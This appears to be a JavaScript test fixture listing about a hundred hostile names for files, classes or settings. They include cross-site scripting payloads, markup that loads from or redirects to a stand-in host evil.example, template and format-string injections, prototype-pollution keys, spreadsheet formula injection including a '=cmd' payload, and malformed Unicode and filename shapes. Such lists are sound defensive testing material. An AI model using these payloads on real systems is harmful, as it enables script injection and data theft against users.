/** names.mjs - a hundred names that somebody may give to a file, a class or a setting, each of which does harm where it is taken for more than text. */

const RUN = 'window.harmed=1';
const MARKUP = [
  `<img src=x onerror=${RUN}>`, `<script>${RUN}</script>`, `"><script>${RUN}</script>`, `'><img src=x onerror=${RUN}>`, `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<iframe src=javascript:${RUN}>`, `<iframe srcdoc="<script>parent.harmed=1</script>">`,
  `<body onload=${RUN}>`, `<a href=javascript:${RUN}>x</a>`, `<input autofocus onfocus=${RUN}>`, `<details open ontoggle=${RUN}>`, `<video><source onerror=${RUN}>`, `<math><mtext><img src=x onerror=${RUN}>`, `<style>*{display:none}</style>`, `<style>@import '//evil.example'</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content=0;url=//evil.example>`, `<form action=//evil.example><button>x`, `<object data=//evil.example>`, `<embed src=//evil.example>`, `<template><img src=x onerror=${RUN}>`, `</title><script>${RUN}</script>`,
  `</option></select><img src=x onerror=${RUN}>`, `</textarea><script>${RUN}</script>`, `<!--<img src="--><img src=x onerror=${RUN}>">`, `<![CDATA[<img src=x onerror=${RUN}>]]>`, `<noscript><img src=x onerror=${RUN}></noscript>`, `&lt;img src=x onerror=${RUN}&gt;`, `&#60;img src=x onerror=${RUN}&#62;`, `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `<IMG SRC=x OnErRoR=${RUN}>`, `<img/src=x/onerror=${RUN}>`, `<img src=x onerror\n=${RUN}>`, `<<img src=x onerror=${RUN}>>`, `<img src=x:x onerror=${RUN} `, `<x onclick=${RUN}>`, `<div style=position:fixed;inset:0;background:red>`, `<slot name=x>`,
];
const CODE = [
  `javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `vbscript:${RUN}`, `';${RUN}//`, `";${RUN}//`, `\`;${RUN}//`, `\${${RUN}}`, `{{${RUN}}}`, `{name}`, `{0}`, `%s%n%n%n`, `$&$1$\``, `'+(${RUN})+'`, `-->${RUN}`, `*/${RUN}/*`, `)}];${RUN}//`,
];
const OBJECTS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'undefined', 'null', 'NaN', 'true', '[object Object]', 'length', 'then', 'id', 'location'];
const FORMULAS = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("//evil.example","x")', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '=1,2,3', '"=1"'];
const SHAPES = [
  'x'.repeat(3000), '\u202egnp.exe', '\u200b\u200d\ufeff', 'a\u0300'.repeat(40), '\u{1f600}'.repeat(30), '\ud800', 'a\nb', 'a\rb', 'a\tb', 'CON', 'a:b', ' ', '  a  ', '...', '-rf', '~', '*', '?', '"quoted"', "'single'",
];
export const NAMES = [...MARKUP, ...CODE, ...OBJECTS, ...FORMULAS, ...SHAPES];
